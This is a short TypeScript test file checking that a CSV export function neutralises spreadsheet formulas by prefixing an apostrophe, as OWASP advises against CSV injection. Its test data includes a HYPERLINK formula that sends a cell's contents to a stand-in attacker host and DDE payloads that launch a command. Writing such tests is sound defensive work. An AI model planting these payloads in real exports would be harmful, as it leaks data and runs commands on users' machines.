import { describe, expect, it } from "vitest";
import { neutraliseFormula } from "./neutralise-formula";

describe("CSV formula neutralisation (OWASP)", () => {
  it("prefixes an apostrophe to every cell a spreadsheet would run", () => {
    for (const cell of ['=HYPERLINK("http://evil.example/?x="&B2,"Open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "-", "+", "=1"]) {
      expect(neutraliseFormula(cell)).toBe(`'${cell}`);
    }
  });

  it("keeps numbers, negative ones included, and ordinary text as they are", () => {
    for (const cell of ["-12", "-0.42", "+3.5", "-1e-3", "-4 %", "12", "St Brigid's", "HER2-01-0042", "<5", "", "a=b"]) {
      expect(neutraliseFormula(cell)).toBe(cell);
    }
  });
});
